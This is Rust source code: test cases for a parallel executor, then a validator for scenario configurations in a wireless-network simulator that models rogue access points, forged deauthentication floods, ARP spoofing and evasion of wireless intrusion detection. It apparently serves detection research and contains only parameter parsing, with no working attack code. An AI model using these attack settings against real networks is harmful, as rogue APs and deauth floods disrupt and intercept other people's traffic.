    for min_len in [1, 5, 50, 1000] {
        let par: Vec<u32> = with_num_threads(4, || {
            (0..100u32)
                .into_par_iter()
                .with_min_len(min_len)
                .map(|x| x * 3)
                .collect()
        });
        assert_eq!(par, seq, "min_len={min_len}");
    }
}

#[test]
fn filter_and_filter_map_preserve_relative_order() {
    let seq: Vec<u32> = (0..500u32)
        .filter(|x| x % 7 != 0)
        .filter_map(|x| (x % 2 == 0).then_some(x / 2))
        .collect();
    let par: Vec<u32> = with_num_threads(3, || {
        (0..500u32)
            .into_par_iter()
            .filter(|x| x % 7 != 0)
            .filter_map(|x| (x % 2 == 0).then_some(x / 2))
            .collect()
    });
    assert_eq!(par, seq);
}

#[test]
fn float_sums_are_bit_identical_across_thread_counts() {
    // Float addition is not associative, so this only holds because the
    // reduction runs sequentially over the index-ordered buffer.
    let value = |i: u64| ((i as f64) * 0.1).sin() / ((i + 1) as f64);
    let serial: f64 = with_num_threads(1, || (0..10_000u64).into_par_iter().map(value).sum());
    for threads in [2, 4, 8] {
        let par: f64 =
            with_num_threads(threads, || (0..10_000u64).into_par_iter().map(value).sum());
        assert_eq!(
            serial.to_bits(),
            par.to_bits(),
            "threads={threads}: {serial:?} vs {par:?}"
        );
    }
}

#[test]
fn nested_parallelism_does_not_deadlock() {
    // Outer replications each fan out again; the caller-participation
    // rule guarantees progress even with every pool worker occupied.
    let out: Vec<u64> = with_num_threads(4, || {
        (0..8u64)
            .into_par_iter()
            .map(|outer| {
                (0..100u64)
                    .into_par_iter()
                    .map(|inner| outer * 1000 + inner)
                    .sum()
            })
            .collect()
    });
    let expected: Vec<u64> = (0..8u64)
        .map(|outer| (0..100u64).map(|inner| outer * 1000 + inner).sum())
        .collect();
    assert_eq!(out, expected);
}

#[test]
fn borrowed_captures_and_slice_par_iter() {
    // Closures borrowing stack data must work (the executor blocks until
    // every job drains before the borrow ends).
    let table: Vec<u64> = (0..64).map(|i| i * i).collect();
    let sum: u64 = with_num_threads(4, || (0..64usize).into_par_iter().map(|i| table[i]).sum());
    assert_eq!(sum, table.iter().sum::<u64>());
    let doubled: Vec<u64> = with_num_threads(4, || table.par_iter().map(|&x| x * 2).collect());
    assert_eq!(doubled, table.iter().map(|&x| x * 2).collect::<Vec<_>>());
}
