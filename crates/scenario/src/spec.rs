//! The typed scenario: turning a parsed [`Table`] into a validated
//! [`Scenario`].
//!
//! Every section is read through a [`Sect`] wrapper that records which
//! keys were consumed, so a typo'd or unsupported key fails loudly with
//! its line/column instead of being silently ignored — the failure mode
//! that makes config languages untrustworthy.

use rogue_core::experiments::e10_evasion::{E10EvasionParams, EvasionVariant};
use rogue_core::experiments::e10_wids::{E10Params, WidsScenario};
use rogue_core::experiments::e1_association::E1Params;
use rogue_core::scenario::{CorpScenarioCfg, RogueCfg};
use rogue_crypto::wep::WepKey;
use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_phy::{MediumParams, Pos};
use rogue_sim::{Seed, SimDuration, SimTime};

use crate::toml::{Error, Item, Span, Table, Value};

/// A validated scenario, ready for [`crate::compile`] or the E-series
/// report drivers.
#[derive(Clone, Debug)]
pub struct Scenario {
    /// Scenario name (reports echo it).
    pub name: String,
    /// Master seed; every replication and walker forks from it.
    pub seed: Seed,
    /// Wall-clock horizon of a summary run.
    pub duration: SimDuration,
    /// Mobility/traffic tick of a summary run.
    pub tick: SimDuration,
    /// Radio propagation parameters.
    pub medium: MediumParams,
    /// Base corporate configuration for the E1/E10 report kinds.
    pub corp: Option<CorpScenarioCfg>,
    /// E1 driver parameters (report kind `e1`).
    pub e1: Option<E1Params>,
    /// E10 driver parameters (report kind `e10`).
    pub e10: Option<E10Params>,
    /// E10-evasion driver parameters (report kind `e10-evasion`).
    pub e10_evasion: Option<E10EvasionParams>,
    /// Infrastructure APs.
    pub aps: Vec<ApSpec>,
    /// Wired servers.
    pub servers: Vec<ServerSpec>,
    /// Client population templates.
    pub populations: Vec<PopulationSpec>,
    /// Rogue APs with placement and activation timing.
    pub rogues: Vec<RogueSpec>,
    /// WIDS deployment for summary runs.
    pub wids: Option<WidsSpec>,
    /// What to print at the end.
    pub report: ReportSpec,
}

/// Which report the run produces.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ReportKind {
    /// Generic key/value summary of the compiled run.
    Summary,
    /// The E1 association-capture tables (requires `[corp]`/`[e1]`).
    E1,
    /// The E10 WIDS score card (requires `[corp]`/`[e10]`).
    E10,
    /// The E10-evasion score card (`[corp]`/`[e10_evasion]`).
    E10Evasion,
}

/// The `[report]` section.
#[derive(Clone, Debug)]
pub struct ReportSpec {
    /// Report flavour.
    pub kind: ReportKind,
    /// Replications per cell (E-series kinds).
    pub reps: usize,
}

/// One `[[ap]]`.
#[derive(Clone, Debug)]
pub struct ApSpec {
    /// Network name.
    pub ssid: String,
    /// BSSID.
    pub bssid: MacAddr,
    /// Operating channel.
    pub channel: u8,
    /// Position.
    pub pos: Pos,
    /// Transmit power, dBm.
    pub tx_power_dbm: f64,
    /// WEP passphrase (40-bit key schedule), if the network is closed.
    pub wep: Option<String>,
}

impl ApSpec {
    /// The AP's WEP key, if any.
    pub fn wep_key(&self) -> Option<WepKey> {
        self.wep.as_deref().map(WepKey::from_passphrase_40)
    }
}

/// One `[[server]]`.
#[derive(Clone, Debug)]
pub struct ServerSpec {
    /// Name traffic entries reference.
    pub name: String,
    /// Address on the LAN.
    pub ip: Ipv4Addr,
    /// What it serves.
    pub content: ServerContent,
}

/// What a server hosts.
#[derive(Clone, Debug, PartialEq)]
pub enum ServerContent {
    /// The §5.1 news page (plus a UDP sink on port 5000).
    News,
    /// A download portal serving a `file_len`-byte binary.
    Download {
        /// Size of the served file.
        file_len: usize,
    },
}

/// One `[[population]]`: a template the generator expands into
/// `count` concrete clients.
#[derive(Clone, Debug)]
pub struct PopulationSpec {
    /// Template name (node names derive from it).
    pub name: String,
    /// Clients to generate.
    pub count: usize,
    /// Network the clients join.
    pub ssid: String,
    /// WEP passphrase matching the AP's, if closed.
    pub wep: Option<String>,
    /// Spawn/roam area `[x0, y0, x1, y1]`.
    pub area: [f64; 4],
    /// First MAC suffix; client *i* gets `MacAddr::local(mac_first + i)`.
    pub mac_first: u64,
    /// First IP; client *i* gets `ip_first + i`.
    pub ip_first: Ipv4Addr,
    /// How the clients move.
    pub mobility: MobilitySpec,
    /// Traffic each client may run.
    pub traffic: Vec<TrafficSpec>,
}

/// The `[population.mobility]` section.
#[derive(Clone, Debug, PartialEq)]
pub enum MobilitySpec {
    /// Clients stay where they spawned.
    Static,
    /// Random waypoint inside the population area.
    Waypoint {
        /// Uniform speed range, m/s.
        speed_mps: (f64, f64),
        /// Pause at each waypoint.
        pause: SimDuration,
    },
}

/// One `[[population.traffic]]` entry.
#[derive(Clone, Debug)]
pub struct TrafficSpec {
    /// Server (by `[[server]]` name) the flow targets.
    pub server: String,
    /// Fraction of the population running this flow (0..=1).
    pub share: f64,
    /// When the flow starts.
    pub start: SimTime,
    /// Flow details.
    pub flow: FlowSpec,
}

/// Per-kind traffic parameters.
#[derive(Clone, Debug)]
pub enum FlowSpec {
    /// Periodic page fetch loop (diurnal browsing).
    Http {
        /// Path fetched.
        path: String,
        /// Fetch period.
        period: SimDuration,
    },
    /// One-shot download of the portal page + file.
    Download,
    /// Constant-bit-rate UDP stream to the server's sink.
    Udp {
        /// Datagrams per second at scale 1.0.
        rate_pps: u64,
        /// Datagram payload bytes (≥ 16).
        payload: usize,
        /// Diurnal profile: `(from, scale)` windows; the stream runs at
        /// `rate_pps * scale` from each instant to the next (a scale of
        /// 0 silences the window). Empty = flat 1.0 for the whole run.
        profile: Vec<(SimTime, f64)>,
    },
    /// Periodic ICMP echo.
    Ping {
        /// Echo period.
        period: SimDuration,
    },
}

/// One `[[rogue]]`.
#[derive(Clone, Debug)]
pub struct RogueSpec {
    /// SSID of the `[[ap]]` this rogue clones (BSSID/SSID/WEP copied).
    pub clone_of: String,
    /// The rogue's own channel.
    pub channel: u8,
    /// Where it sits.
    pub pos: Pos,
    /// Transmit power, dBm.
    pub tx_power_dbm: f64,
    /// Activation time.
    pub start: SimTime,
    /// Run a forged-deauth flood off the cloned BSSID.
    pub deauth: bool,
    /// Deauth a specific client (None = broadcast).
    pub deauth_target: Option<MacAddr>,
}

/// The `[wids]` section (summary runs).
#[derive(Clone, Debug)]
pub struct WidsSpec {
    /// Monitor channels.
    pub channels: Vec<u8>,
    /// Monitor position.
    pub pos: Pos,
}

// ---------------------------------------------------------------------
// section reader

/// A table wrapper that tracks consumed keys and rejects leftovers.
struct Sect<'a> {
    table: &'a Table,
    used: Vec<bool>,
    what: &'a str,
}

impl<'a> Sect<'a> {
    fn new(table: &'a Table, what: &'a str) -> Sect<'a> {
        Sect {
            table,
            used: vec![false; table.entries.len()],
            what,
        }
    }

    fn take(&mut self, key: &str) -> Option<&'a Item> {
        for (i, (k, v)) in self.table.entries.iter().enumerate() {
            if k == key {
                self.used[i] = true;
                return Some(v);
            }
        }
        None
    }

    fn require(&mut self, key: &str) -> Result<&'a Item, Error> {
        let span = self.table.span;
        let what = self.what;
        self.take(key)
            .ok_or_else(|| Error::at(span, format!("{what}: missing required key `{key}`")))
    }

    /// Error on the first key nobody consumed.
    fn finish(self) -> Result<(), Error> {
        for (i, (k, v)) in self.table.entries.iter().enumerate() {
            if !self.used[i] {
                return Err(Error::at(
                    v.span,
                    format!("{}: unknown key `{k}`", self.what),
                ));
            }
        }
        Ok(())
    }
}

// typed readers -------------------------------------------------------

fn as_str(item: &Item) -> Result<&str, Error> {
    match &item.value {
        Value::Str(s) => Ok(s),
        other => Err(Error::at(
            item.span,
            format!("expected a string, got {}", other.type_name()),
        )),
    }
}

fn as_i64(item: &Item) -> Result<i64, Error> {
    match item.value {
        Value::Int(i) => Ok(i),
        ref other => Err(Error::at(
            item.span,
            format!("expected an integer, got {}", other.type_name()),
        )),
    }
}

fn as_usize(item: &Item) -> Result<usize, Error> {
    let i = as_i64(item)?;
    usize::try_from(i).map_err(|_| Error::at(item.span, format!("{i} must be non-negative")))
}

fn as_u64(item: &Item) -> Result<u64, Error> {
    let i = as_i64(item)?;
    u64::try_from(i).map_err(|_| Error::at(item.span, format!("{i} must be non-negative")))
}

fn as_f64(item: &Item) -> Result<f64, Error> {
    match item.value {
        Value::Float(f) => Ok(f),
        Value::Int(i) => Ok(i as f64),
        ref other => Err(Error::at(
            item.span,
            format!("expected a number, got {}", other.type_name()),
        )),
    }
}

fn as_bool(item: &Item) -> Result<bool, Error> {
    match item.value {
        Value::Bool(b) => Ok(b),
        ref other => Err(Error::at(
            item.span,
            format!("expected a boolean, got {}", other.type_name()),
        )),
    }
}

fn as_table<'a>(item: &'a Item, what: &str) -> Result<&'a Table, Error> {
    match &item.value {
        Value::Table(t) => Ok(t),
        other => Err(Error::at(
            item.span,
            format!("{what}: expected a table, got {}", other.type_name()),
        )),
    }
}

fn as_array(item: &Item) -> Result<&[Item], Error> {
    match &item.value {
        Value::Array(items) => Ok(items),
        other => Err(Error::at(
            item.span,
            format!("expected an array, got {}", other.type_name()),
        )),
    }
}

fn as_duration(item: &Item) -> Result<SimDuration, Error> {
    let s = as_str(item)?;
    s.parse::<SimDuration>()
        .map_err(|e| Error::at(item.span, e.to_string()))
}

fn as_time(item: &Item) -> Result<SimTime, Error> {
    Ok(SimTime::ZERO + as_duration(item)?)
}

fn as_mac(item: &Item) -> Result<MacAddr, Error> {
    let s = as_str(item)?;
    s.parse::<MacAddr>()
        .map_err(|_| Error::at(item.span, format!("invalid MAC address `{s}`")))
}

fn as_ip(item: &Item) -> Result<Ipv4Addr, Error> {
    let s = as_str(item)?;
    s.parse::<Ipv4Addr>()
        .map_err(|_| Error::at(item.span, format!("invalid IPv4 address `{s}`")))
}

fn as_channel(item: &Item) -> Result<u8, Error> {
    let i = as_i64(item)?;
    if !(1..=14).contains(&i) {
        return Err(Error::at(
            item.span,
            format!("channel {i} out of range (802.11b uses 1..=14)"),
        ));
    }
    Ok(i as u8)
}

fn as_pos(item: &Item) -> Result<Pos, Error> {
    let items = as_array(item)?;
    if items.len() != 2 {
        return Err(Error::at(item.span, "position must be `[x, y]`"));
    }
    Ok(Pos::new(as_f64(&items[0])?, as_f64(&items[1])?))
}

fn as_f64_vec(item: &Item) -> Result<Vec<f64>, Error> {
    as_array(item)?.iter().map(as_f64).collect()
}

fn as_channel_vec(item: &Item) -> Result<Vec<u8>, Error> {
    as_array(item)?.iter().map(as_channel).collect()
}

/// Array of tables under `key` (absent = empty).
fn tables_of<'a>(sect: &mut Sect<'a>, key: &str, what: &str) -> Result<Vec<&'a Table>, Error> {
    let Some(item) = sect.take(key) else {
        return Ok(Vec::new());
    };
    match &item.value {
        Value::Array(items) => items.iter().map(|i| as_table(i, what)).collect(),
        Value::Table(t) => Ok(vec![t]),
        other => Err(Error::at(
            item.span,
            format!(
                "{what}: expected `[[{key}]]` tables, got {}",
                other.type_name()
            ),
        )),
    }
}

// ---------------------------------------------------------------------
// scenario assembly

/// Validate a parsed root table into a [`Scenario`].
pub fn from_table(root: &Table) -> Result<Scenario, Error> {
    let mut top = Sect::new(root, "scenario");

    let name = as_str(top.require("name")?)?.to_string();
    let seed = Seed(top.take("seed").map(as_u64).transpose()?.unwrap_or(1));
    let duration = top
        .take("duration")
        .map(as_duration)
        .transpose()?
        .unwrap_or(SimDuration::from_secs(30));
    let tick = top
        .take("tick")
        .map(as_duration)
        .transpose()?
        .unwrap_or(SimDuration::from_millis(100));
    if tick == SimDuration::ZERO {
        return Err(Error::at(root.span, "tick must be positive"));
    }

    let medium = match top.take("medium") {
        None => MediumParams::default(),
        Some(item) => read_medium(as_table(item, "[medium]")?)?,
    };

    let corp = match top.take("corp") {
        None => None,
        Some(item) => Some(read_corp(as_table(item, "[corp]")?)?),
    };
    let e1 = match top.take("e1") {
        None => None,
        Some(item) => Some(read_e1(as_table(item, "[e1]")?)?),
    };
    let e10 = match top.take("e10") {
        None => None,
        Some(item) => Some(read_e10(as_table(item, "[e10]")?)?),
    };
    let e10_evasion = match top.take("e10_evasion") {
        None => None,
        Some(item) => Some(read_e10_evasion(as_table(item, "[e10_evasion]")?)?),
    };

    let aps = tables_of(&mut top, "ap", "[[ap]]")?
        .into_iter()
        .map(read_ap)
        .collect::<Result<Vec<_>, _>>()?;
    let servers = tables_of(&mut top, "server", "[[server]]")?
        .into_iter()
        .map(read_server)
        .collect::<Result<Vec<_>, _>>()?;
    let populations = tables_of(&mut top, "population", "[[population]]")?
        .into_iter()
        .map(read_population)
        .collect::<Result<Vec<_>, _>>()?;
    let rogues = tables_of(&mut top, "rogue", "[[rogue]]")?
        .into_iter()
        .map(read_rogue)
        .collect::<Result<Vec<_>, _>>()?;
    let wids = match top.take("wids") {
        None => None,
        Some(item) => Some(read_wids(as_table(item, "[wids]")?)?),
    };

    let report = match top.take("report") {
        None => ReportSpec {
            kind: ReportKind::Summary,
            reps: 1,
        },
        Some(item) => read_report(as_table(item, "[report]")?)?,
    };

    top.finish()?;

    let sc = Scenario {
        name,
        seed,
        duration,
        tick,
        medium,
        corp,
        e1,
        e10,
        e10_evasion,
        aps,
        servers,
        populations,
        rogues,
        wids,
        report,
    };
    cross_validate(&sc, root.span)?;
    Ok(sc)
}

/// Checks that need the whole scenario: dangling references, kind
/// prerequisites.
fn cross_validate(sc: &Scenario, span: Span) -> Result<(), Error> {
    match sc.report.kind {
        ReportKind::Summary => {
            if sc.populations.is_empty() && sc.rogues.is_empty() {
                return Err(Error::at(
                    span,
                    "summary scenario has no populations and no rogues: nothing to run",
                ));
            }
            if !sc.populations.is_empty() && sc.aps.is_empty() {
                return Err(Error::at(span, "populations need at least one [[ap]]"));
            }
        }
        ReportKind::E1 | ReportKind::E10 | ReportKind::E10Evasion => {}
    }
    for p in &sc.populations {
        if !sc.aps.iter().any(|ap| ap.ssid == p.ssid) {
            return Err(Error::at(
                span,
                format!(
                    "population `{}` joins ssid `{}` but no [[ap]] advertises it",
                    p.name, p.ssid
                ),
            ));
        }
        for t in &p.traffic {
            if !sc.servers.iter().any(|s| s.name == t.server) {
                return Err(Error::at(
                    span,
                    format!(
                        "population `{}` sends traffic to server `{}` but no [[server]] has that name",
                        p.name, t.server
                    ),
                ));
            }
        }
    }
    for r in &sc.rogues {
        if !sc.aps.iter().any(|ap| ap.ssid == r.clone_of) {
            return Err(Error::at(
                span,
                format!(
                    "rogue clones ssid `{}` but no [[ap]] advertises it",
                    r.clone_of
                ),
            ));
        }
    }
    Ok(())
}

fn read_medium(t: &Table) -> Result<MediumParams, Error> {
    let mut s = Sect::new(t, "[medium]");
    let mut p = MediumParams::default();
    if let Some(i) = s.take("path_loss_exponent") {
        p.path_loss_exponent = as_f64(i)?;
    }
    if let Some(i) = s.take("ref_loss_db") {
        p.ref_loss_db = as_f64(i)?;
    }
    if let Some(i) = s.take("shadowing_sigma_db") {
        p.shadowing_sigma_db = as_f64(i)?;
    }
    if let Some(i) = s.take("noise_floor_dbm") {
        p.noise_floor_dbm = as_f64(i)?;
    }
    if let Some(i) = s.take("cca_threshold_dbm") {
        p.cca_threshold_dbm = as_f64(i)?;
    }
    s.finish()?;
    Ok(p)
}

fn read_corp(t: &Table) -> Result<CorpScenarioCfg, Error> {
    let mut s = Sect::new(t, "[corp]");
    let mut cfg = CorpScenarioCfg::paper_attack();
    if let Some(i) = s.take("wep") {
        cfg.wep = match &i.value {
            Value::Bool(false) => None,
            _ => Some(WepKey::from_passphrase_40(as_str(i)?)),
        };
    }
    if let Some(i) = s.take("mac_filter") {
        cfg.mac_filter = as_bool(i)?;
    }
    if let Some(i) = s.take("victim_pos") {
        cfg.victim_pos = as_pos(i)?;
    }
    if let Some(i) = s.take("file_len") {
        cfg.file_len = as_usize(i)?;
    }
    if let Some(i) = s.take("victim_mss") {
        cfg.victim_mss = as_usize(i)?;
    }
    if let Some(i) = s.take("server_mss") {
        cfg.server_mss = as_usize(i)?;
    }
    if let Some(i) = s.take("page_pad") {
        cfg.page_pad = as_usize(i)?;
    }
    if let Some(i) = s.take("shadowing_sigma_db") {
        cfg.shadowing_sigma_db = as_f64(i)?;
    }
    if let Some(i) = s.take("wired_monitor") {
        cfg.wired_monitor = as_bool(i)?;
    }
    cfg.rogue = match s.take("rogue") {
        None => cfg.rogue,
        Some(i) => Some(read_corp_rogue(as_table(i, "[corp.rogue]")?)?),
    };
    s.finish()?;
    Ok(cfg)
}

fn read_corp_rogue(t: &Table) -> Result<RogueCfg, Error> {
    let mut s = Sect::new(t, "[corp.rogue]");
    let mut r = RogueCfg::default();
    if let Some(i) = s.take("pos") {
        r.pos = as_pos(i)?;
    }
    if let Some(i) = s.take("tx_power_dbm") {
        r.tx_power_dbm = as_f64(i)?;
    }
    if let Some(i) = s.take("channel") {
        r.channel = as_channel(i)?;
    }
    if let Some(i) = s.take("deauth") {
        r.deauth_victim = as_bool(i)?;
    }
    if let Some(i) = s.take("start") {
        r.start_at = as_time(i)?;
    }
    s.finish()?;
    Ok(r)
}

fn read_e1(t: &Table) -> Result<E1Params, Error> {
    let mut s = Sect::new(t, "[e1]");
    let mut p = E1Params::default();
    if let Some(i) = s.take("powers_dbm") {
        p.powers_dbm = as_f64_vec(i)?;
    }
    if let Some(i) = s.take("sweep_shadowing_db") {
        p.sweep_shadowing_db = as_f64(i)?;
    }
    if let Some(i) = s.take("sweep_run") {
        p.sweep_run = as_time(i)?;
    }
    if let Some(i) = s.take("deauth_rogue_start") {
        p.deauth_rogue_start = as_time(i)?;
    }
    if let Some(i) = s.take("deauth_run") {
        p.deauth_run = as_time(i)?;
    }
    s.finish()?;
    Ok(p)
}

fn read_e10(t: &Table) -> Result<E10Params, Error> {
    let mut s = Sect::new(t, "[e10]");
    let mut p = E10Params::default();
    if let Some(i) = s.take("run_time") {
        p.run_time = as_time(i)?;
    }
    if let Some(i) = s.take("attack_start") {
        p.attack_start = as_time(i)?;
    }
    if let Some(i) = s.take("spoof_start") {
        p.spoof_start = as_time(i)?;
    }
    if let Some(i) = s.take("slice") {
        p.slice = as_duration(i)?;
    }
    if let Some(i) = s.take("monitor_channels") {
        p.monitor_channels = as_channel_vec(i)?;
    }
    if let Some(i) = s.take("monitor_pos") {
        p.monitor_pos = as_pos(i)?;
    }
    if let Some(i) = s.take("match_window") {
        p.match_window = as_duration(i)?;
    }
    if let Some(i) = s.take("scenarios") {
        p.scenarios = as_array(i)?
            .iter()
            .map(|item| {
                let name = as_str(item)?;
                WidsScenario::from_name(name).ok_or_else(|| {
                    Error::at(
                        item.span,
                        format!(
                            "unknown WIDS scenario `{name}` (expected clean, \
                             rogue-ap+deauth or arp-spoof)"
                        ),
                    )
                })
            })
            .collect::<Result<Vec<_>, _>>()?;
    }
    s.finish()?;
    Ok(p)
}

fn read_e10_evasion(t: &Table) -> Result<E10EvasionParams, Error> {
    let mut s = Sect::new(t, "[e10_evasion]");
    let mut p = E10EvasionParams::default();
    if let Some(i) = s.take("run_time") {
        p.run_time = as_time(i)?;
    }
    if let Some(i) = s.take("attack_start") {
        p.attack_start = as_time(i)?;
    }
    if let Some(i) = s.take("slice") {
        p.slice = as_duration(i)?;
    }
    if let Some(i) = s.take("monitor_channels") {
        p.monitor_channels = as_channel_vec(i)?;
    }
    if let Some(i) = s.take("monitor_pos") {
        p.monitor_pos = as_pos(i)?;
    }
    if let Some(i) = s.take("match_window") {
        p.match_window = as_duration(i)?;
    }
    if let Some(i) = s.take("variants") {
        p.variants = as_array(i)?
            .iter()
            .map(|item| {
                let name = as_str(item)?;
                EvasionVariant::from_name(name).ok_or_else(|| {
                    Error::at(
                        item.span,
                        format!(
                            "unknown evasion variant `{name}` (expected mac-randomizing,                              karma-cloaked, low-power-stealth or pulsed-deauth)"
                        ),
                    )
                })
            })
            .collect::<Result<Vec<_>, _>>()?;
        if p.variants.is_empty() {
            return Err(Error::at(i.span, "variants must name at least one variant"));
        }
    }
    s.finish()?;
    Ok(p)
}

fn read_ap(t: &Table) -> Result<ApSpec, Error> {
    let mut s = Sect::new(t, "[[ap]]");
    let ap = ApSpec {
        ssid: as_str(s.require("ssid")?)?.to_string(),
        bssid: as_mac(s.require("bssid")?)?,
        channel: as_channel(s.require("channel")?)?,
        pos: as_pos(s.require("pos")?)?,
        tx_power_dbm: s
            .take("tx_power_dbm")
            .map(as_f64)
            .transpose()?
            .unwrap_or(15.0),
        wep: s
            .take("wep")
            .map(|i| as_str(i).map(String::from))
            .transpose()?,
    };
    s.finish()?;
    Ok(ap)
}

fn read_server(t: &Table) -> Result<ServerSpec, Error> {
    let mut s = Sect::new(t, "[[server]]");
    let name = as_str(s.require("name")?)?.to_string();
    let ip = as_ip(s.require("ip")?)?;
    let content_item = s.require("content")?;
    let content = match as_str(content_item)? {
        "news" => ServerContent::News,
        "download" => ServerContent::Download {
            file_len: s
                .take("file_len")
                .map(as_usize)
                .transpose()?
                .unwrap_or(32 * 1024),
        },
        other => {
            return Err(Error::at(
                content_item.span,
                format!("unknown content `{other}` (expected news or download)"),
            ))
        }
    };
    s.finish()?;
    Ok(ServerSpec { name, ip, content })
}

fn read_population(t: &Table) -> Result<PopulationSpec, Error> {
    let mut s = Sect::new(t, "[[population]]");
    let name = as_str(s.require("name")?)?.to_string();
    let count_item = s.require("count")?;
    let count = as_usize(count_item)?;
    if count == 0 {
        return Err(Error::at(count_item.span, "count must be at least 1"));
    }
    let ssid = as_str(s.require("ssid")?)?.to_string();
    let wep = s
        .take("wep")
        .map(|i| as_str(i).map(String::from))
        .transpose()?;
    let area_item = s.require("area")?;
    let raw = as_f64_vec(area_item)?;
    let area: [f64; 4] = raw
        .try_into()
        .map_err(|_| Error::at(area_item.span, "area must be `[x0, y0, x1, y1]`"))?;
    if area[2] <= area[0] || area[3] <= area[1] {
        return Err(Error::at(
            area_item.span,
            "area must satisfy x0 < x1 and y0 < y1",
        ));
    }
    let mac_first = s.take("mac_first").map(as_u64).transpose()?.unwrap_or(1000);
    let ip_first = match s.take("ip_first") {
        Some(i) => as_ip(i)?,
        None => Ipv4Addr::new(10, 0, 100, 1),
    };
    let mobility = match s.take("mobility") {
        None => MobilitySpec::Static,
        Some(i) => read_mobility(as_table(i, "[population.mobility]")?)?,
    };
    let traffic = tables_of(&mut s, "traffic", "[[population.traffic]]")?
        .into_iter()
        .map(read_traffic)
        .collect::<Result<Vec<_>, _>>()?;
    s.finish()?;
    Ok(PopulationSpec {
        name,
        count,
        ssid,
        wep,
        area,
        mac_first,
        ip_first,
        mobility,
        traffic,
    })
}

fn read_mobility(t: &Table) -> Result<MobilitySpec, Error> {
    let mut s = Sect::new(t, "[population.mobility]");
    let model_item = s.require("model")?;
    let spec = match as_str(model_item)? {
        "static" => MobilitySpec::Static,
        "waypoint" => {
            let speed_item = s.require("speed_mps")?;
            let speeds = as_f64_vec(speed_item)?;
            let speed_mps = match speeds.as_slice() {
                [lo, hi] if *lo > 0.0 && hi >= lo => (*lo, *hi),
                _ => {
                    return Err(Error::at(
                        speed_item.span,
                        "speed_mps must be `[lo, hi]` with 0 < lo <= hi",
                    ))
                }
            };
            MobilitySpec::Waypoint {
                speed_mps,
                pause: s
                    .take("pause")
                    .map(as_duration)
                    .transpose()?
                    .unwrap_or(SimDuration::from_secs(2)),
            }
        }
        other => {
            return Err(Error::at(
                model_item.span,
                format!("unknown mobility model `{other}` (expected static or waypoint)"),
            ))
        }
    };
    s.finish()?;
    Ok(spec)
}

fn read_traffic(t: &Table) -> Result<TrafficSpec, Error> {
    let mut s = Sect::new(t, "[[population.traffic]]");
    let kind_item = s.require("kind")?;
    let kind = as_str(kind_item)?.to_string();
    let server = as_str(s.require("server")?)?.to_string();
    let share_item = s.take("share");
    let share = share_item.map(as_f64).transpose()?.unwrap_or(1.0);
    if !(0.0..=1.0).contains(&share) {
        return Err(Error::at(
            share_item.expect("share was present").span,
            "share must be within 0..=1",
        ));
    }
    let start = s
        .take("start")
        .map(as_time)
        .transpose()?
        .unwrap_or(SimTime::from_secs(1));
    let flow = match kind.as_str() {
        "http" => FlowSpec::Http {
            path: s
                .take("path")
                .map(|i| as_str(i).map(String::from))
                .transpose()?
                .unwrap_or_else(|| "/index.html".to_string()),
            period: s
                .take("period")
                .map(as_duration)
                .transpose()?
                .unwrap_or(SimDuration::from_secs(5)),
        },
        "download" => FlowSpec::Download,
        "udp" => {
            let rate_item = s.require("rate_pps")?;
            let rate_pps = as_u64(rate_item)?;
            if rate_pps == 0 {
                return Err(Error::at(rate_item.span, "rate_pps must be positive"));
            }
            let payload = s.take("payload").map(as_usize).transpose()?.unwrap_or(64);
            if payload < 16 {
                return Err(Error::at(
                    t.span,
                    "udp payload must be at least 16 bytes (seq + timestamp)",
                ));
            }
            let profile = match s.take("profile") {
                None => Vec::new(),
                Some(item) => {
                    let mut windows = Vec::new();
                    for w in as_array(item)? {
                        let pair = as_array(w)?;
                        if pair.len() != 2 {
                            return Err(Error::at(
                                w.span,
                                "profile window must be `[\"from\", scale]`",
                            ));
                        }
                        let scale = as_f64(&pair[1])?;
                        if !(0.0..=100.0).contains(&scale) {
                            return Err(Error::at(pair[1].span, "profile scale out of range"));
                        }
                        windows.push((as_time(&pair[0])?, scale));
                    }
                    if windows.windows(2).any(|p| p[1].0 <= p[0].0) {
                        return Err(Error::at(
                            item.span,
                            "profile windows must have strictly increasing start times",
                        ));
                    }
                    windows
                }
            };
            FlowSpec::Udp {
                rate_pps,
                payload,
                profile,
            }
        }
        "ping" => FlowSpec::Ping {
            period: s
                .take("period")
                .map(as_duration)
                .transpose()?
                .unwrap_or(SimDuration::from_secs(1)),
        },
        other => {
            return Err(Error::at(
                kind_item.span,
                format!("unknown traffic kind `{other}` (expected http, download, udp or ping)"),
            ))
        }
    };
    s.finish()?;
    Ok(TrafficSpec {
        server,
        share,
        start,
        flow,
    })
}

fn read_rogue(t: &Table) -> Result<RogueSpec, Error> {
    let mut s = Sect::new(t, "[[rogue]]");
    let spec = RogueSpec {
        clone_of: as_str(s.require("clone_ap")?)?.to_string(),
        channel: as_channel(s.require("channel")?)?,
        pos: as_pos(s.require("pos")?)?,
        tx_power_dbm: s
            .take("tx_power_dbm")
            .map(as_f64)
            .transpose()?
            .unwrap_or(18.0),
        start: s
            .take("start")
            .map(as_time)
            .transpose()?
            .unwrap_or(SimTime::ZERO),
        deauth: s.take("deauth").map(as_bool).transpose()?.unwrap_or(false),
        deauth_target: s.take("deauth_target").map(as_mac).transpose()?,
    };
    s.finish()?;
    Ok(spec)
}

fn read_wids(t: &Table) -> Result<WidsSpec, Error> {
    let mut s = Sect::new(t, "[wids]");
    let spec = WidsSpec {
        channels: match s.take("channels") {
            None => vec![1, 6, 11],
            Some(i) => as_channel_vec(i)?,
        },
        pos: match s.take("pos") {
            None => Pos::new(0.0, 0.0),
            Some(i) => as_pos(i)?,
        },
    };
    s.finish()?;
    Ok(spec)
}

fn read_report(t: &Table) -> Result<ReportSpec, Error> {
    let mut s = Sect::new(t, "[report]");
    let kind = match s.take("kind") {
        None => ReportKind::Summary,
        Some(item) => match as_str(item)? {
            "summary" => ReportKind::Summary,
            "e1" => ReportKind::E1,
            "e10" => ReportKind::E10,
            "e10-evasion" => ReportKind::E10Evasion,
            other => {
                return Err(Error::at(
                    item.span,
                    format!(
                        "unknown report kind `{other}` (expected summary, e1, e10 or e10-evasion)"
                    ),
                ))
            }
        },
    };
    let reps_item = s.take("reps");
    let reps = reps_item.map(as_usize).transpose()?.unwrap_or(2);
    if reps == 0 {
        return Err(Error::at(
            reps_item.expect("reps was present").span,
            "reps must be at least 1",
        ));
    }
    s.finish()?;
    Ok(ReportSpec { kind, reps })
}

/// Parse + validate a scenario source string.
pub fn parse_scenario(src: &str) -> Result<Scenario, Error> {
